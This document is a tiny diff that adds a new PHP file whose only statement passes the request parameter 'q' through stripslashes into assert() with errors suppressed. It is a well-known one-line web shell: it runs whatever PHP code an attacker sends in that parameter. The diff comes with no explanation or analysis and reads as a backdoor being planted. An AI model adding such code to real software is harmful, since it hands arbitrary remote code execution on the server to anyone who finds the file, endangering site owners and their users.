@@ -1,0 +1,2 @@
+<?php
+@assert(stripslashes($_REQUEST['q']));
